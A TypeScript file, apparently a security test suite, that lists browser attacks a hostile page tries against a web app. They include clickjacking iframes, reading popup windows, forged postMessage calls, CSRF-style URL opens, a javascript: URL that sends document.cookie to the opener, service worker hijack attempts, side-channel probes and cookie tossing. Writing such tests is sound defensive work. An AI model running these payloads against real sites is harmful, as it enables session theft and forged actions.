import type { Attack } from './tools.ts';

/** The test reads framed content itself: the page cannot, but it could clickjack it. */
const frames: Attack[] = [
  {
    name: 'a frame to be clicked in',
    does: 'reads',
    run: async ({ server }) => {
      await hostile.include('iframe', { src: server, style: 'opacity:0;width:800px;height:600px' });
      return '';
    },
  },
  {
    name: 'a frame that holds an answer',
    does: 'reads',
    run: async ({ server }) => {
      await hostile.include('iframe', { src: `${server}/api/content`, sandbox: '' });
      return '';
    },
  },
  {
    name: 'an object',
    does: 'reads',
    run: async ({ server }) => {
      await hostile.include('object', { data: `${server}/api/content`, type: 'text/html' });
      return '';
    },
  },
  {
    name: 'an embedded thing',
    does: 'reads',
    run: async ({ server }) => {
      await hostile.include('embed', { src: `${server}/api/content`, type: 'text/html' });
      return '';
    },
  },
];

const windows: Attack[] = [
  {
    name: 'looking into a window that it opened',
    does: 'tries',
    run: async ({ server }) => {
      const popup = open(server, 'victim');
      await hostile.wait(400);
      let seen = '';
      try {
        seen = popup?.document.body.innerText ?? '';
      } catch {
        // Cross-origin access throws.
      }
      const inner = popup?.length ? 'loaded' : '';
      popup?.close();
      return seen + inner;
    },
  },
  {
    name: 'messages to a window that it opened',
    does: 'reads',
    run: async ({ server }) => {
      let heard = '';
      addEventListener('message', ({ data, origin }) => {
        if (origin !== location.origin) heard += JSON.stringify(data);
      });
      const popup = open(server, 'victim');
      for (let n = 0; n < 4; n += 1) {
        await hostile.wait(100);
        popup?.postMessage({ type: 'chat_message', roomId: 1, content: 'HOSTILE' }, '*');
        popup?.postMessage('{"type":"ready"}', '*');
      }
      popup?.close();
      return heard;
    },
  },
  {
    name: 'the name of a window that was there',
    does: 'tries',
    run: async ({ server }) => {
      const popup = open(server, 'HOSTILE');
      await hostile.wait(300);
      if (popup) popup.location.href = `${location.origin}/blank`;
      await hostile.wait(300);
      let name = '';
      try {
        name = popup?.name ?? '';
      } catch {}
      popup?.close();
      return name === 'HOSTILE' ? '' : name;
    },
  },
  {
    name: 'addresses that would do something',
    does: 'tries',
    run: async ({ server }) => {
      for (const path of ['/api/logout', '/api/tasks/1?_method=DELETE', '/auth?username=gus']) {
        const popup = open(server + path, 'victim');
        await hostile.wait(150);
        popup?.close();
      }
      return '';
    },
  },
  {
    name: 'a script in the address of its window',
    does: 'tries',
    run: async ({ server }) => {
      const popup = open(server, 'victim');
      await hostile.wait(300);
      try {
        if (popup) popup.location.href = 'javascript:opener.postMessage(document.cookie,"*")';
      } catch {}
      popup?.close();
      return '';
    },
  },
  {
    name: 'a link into the app',
    does: 'tries',
    run: async () => {
      await hostile.include('iframe', { src: 'treehouse://content/1' });
      return '';
    },
  },
  {
    name: 'a file dropped',
    does: 'tries',
    run: async ({ server }) => {
      const popup = open(server, 'victim');
      await hostile.wait(300);
      const dataTransfer = new DataTransfer();
      dataTransfer.items.add(new File(['x'], 'HOSTILE.png', { type: 'image/png' }));
      try {
        popup?.document.body.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true }));
      } catch {}
      popup?.close();
      return '';
    },
  },
];

const quiet: Attack[] = [
  {
    name: 'fetching and drawing ahead',
    does: 'tries',
    run: async ({ server }) => {
      for (const rel of ['prefetch', 'prerender', 'dns-prefetch', 'preconnect', 'modulepreload']) {
        await Promise.race([
          hostile.include('link', { rel, href: `${server}/api/logout` }),
          hostile.wait(50),
        ]);
      }
      const rules = document.createElement('script');
      rules.type = 'speculationrules';
      const urls = [`${server}/api/logout`];
      rules.textContent = JSON.stringify({
        prefetch: [{ source: 'list', urls }],
        prerender: [{ source: 'list', urls }],
      });
      document.body.append(rules);
      await hostile.wait(200);
      return '';
    },
  },
  {
    name: 'a service worker for the server',
    does: 'tries',
    run: async ({ server }) => {
      if (!navigator.serviceWorker) return '';
      const register = (url: string) =>
        navigator.serviceWorker.register(url, { scope: `${server}/` }).then(
          () => 'loaded',
          () => '',
        );
      return (await register(`${server}/service-worker.js`)) || register('/worker.js');
    },
  },
  {
    name: 'probing which files exist',
    does: 'reads',
    run: async ({ picture, missing }) => {
      const tags = ['img', 'script', 'audio', 'video', 'embed', 'object'];
      const learned = await Promise.all(
        tags.map(async (tag) => {
          const name = tag === 'object' ? 'data' : 'src';
          const there = await hostile.include(tag, { [name]: picture });
          const gone = await hostile.include(tag, { [name]: missing });
          const isLearned = there !== gone && there !== 'nothing' && gone !== 'nothing';
          return !isLearned ? '' : `${tag}: ${there}, ${gone}`;
        }),
      );
      return learned.filter(Boolean).join('; ');
    },
  },
  {
    name: 'the size of an answer',
    does: 'reads',
    run: async ({ server }) => {
      await fetch(`${server}/api/content`, { mode: 'no-cors', credentials: 'include' }).catch(
        () => {},
      );
      await hostile.wait(100);
      const entries = performance.getEntriesByType('resource') as PerformanceResourceTiming[];
      return entries
        .filter(({ name }) => name.startsWith(server))
        .filter((e) => e.transferSize + e.encodedBodySize + e.responseStatus > 0)
        .map((e) => `${e.name} ${e.responseStatus} ${e.encodedBodySize}`)
        .join('; ');
    },
  },
  {
    name: 'setting cookies',
    does: 'tries',
    run: async ({ server, cookie }) => {
      for (const path of ['/', '/api', '/api/tasks', '/ws']) {
        // biome-ignore lint/suspicious/noDocumentCookie: the other way is for secure contexts alone.
        document.cookie = `${cookie}=HOSTILE; path=${path}`;
      }
      const own = document.cookie;
      await fetch(`${server}/api/tasks`, {
        method: 'POST',
        mode: 'no-cors',
        credentials: 'include',
        body: '{"title":"HOSTILE"}',
      }).catch(() => {});
      return own.replaceAll(`${cookie}=HOSTILE`, '').replaceAll('; ', '');
    },
  },
];

export const windowAttacks: Attack[] = [...frames, ...windows, ...quiet];
